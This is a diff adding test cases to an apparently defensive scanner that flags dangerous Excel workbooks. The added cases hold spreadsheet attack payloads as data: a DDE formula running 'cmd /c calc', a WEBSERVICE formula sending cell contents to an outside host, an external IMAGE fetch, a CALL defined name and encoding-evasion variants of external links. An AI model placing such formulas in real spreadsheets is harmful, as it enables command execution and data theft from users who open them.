@@ -136,6 +136,14 @@ def typed(ending: str, kind: str) -> bytes:
     return types.replace("<Override", f'<Default Extension="{ending}" ContentType="{kind}"/><Override', 1).encode()
 
 
+def relation(mode: str) -> bytes:
+    return f"<Relationships><Relationship Id='a' Target='http://h/a' {mode}/></Relationships>".encode()
+
+
+def formula(text: str, tag: str = "f") -> bytes:
+    return f"<sheet><{tag}>{text}</{tag}></sheet>".encode()
+
+
 def workbook(**parts: bytes) -> bytes:
     data = io.BytesIO()
     main = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
@@ -153,7 +161,15 @@ def workbook(**parts: bytes) -> bytes:
         (workbook(**{"xl/workbook.xml": b"<x/>", "xl/_rels/workbook.xml.rels": b"<x/>"}), 0),
         (workbook(**{"xl/vbaProject.bin": b""}), 1),
         (workbook(**{"xl/externalLinks/externalLink1.xml": b""}), 1),
-        (workbook(**{"xl/_rels/workbook.xml.rels": b'<x TargetMode="External"/>'}), 1),
+        (workbook(**{"xl/_rels/workbook.xml.rels": relation('TargetMode="External"')}), 1),
+        (workbook(**{"xl/_rels/workbook.xml.rels": relation("TargetMode='External'")}), 1),
+        (workbook(**{"xl/_rels/workbook.xml.rels": relation('TargetMode="External"').decode().encode("utf-16")}), 1),
+        (workbook(**{"xl/worksheets/sheet1.xml": formula('SUM(B2:B9)&amp;"WEBSERVICE(|)"')}), 0),
+        (workbook(**{"xl/worksheets/sheet1.xml": formula('_xlfn.CONCAT(B2,"万")')}), 0),
+        (workbook(**{"xl/worksheets/sheet1.xml": formula('WEBSERVICE("http://h/"&amp;B2)')}), 1),
+        (workbook(**{"xl/worksheets/sheet1.xml": formula("cmd|' /c calc'!A1")}), 1),
+        (workbook(**{"xl/worksheets/sheet1.xml": formula('_xlfn.IMAGE ("http://h/a.png")')}), 1),
+        (workbook(**{"xl/workbook.xml": formula("CALL(1)", "definedName")}), 1),
         (template("文"), 1),
         (b"MZ", 1),
     ],
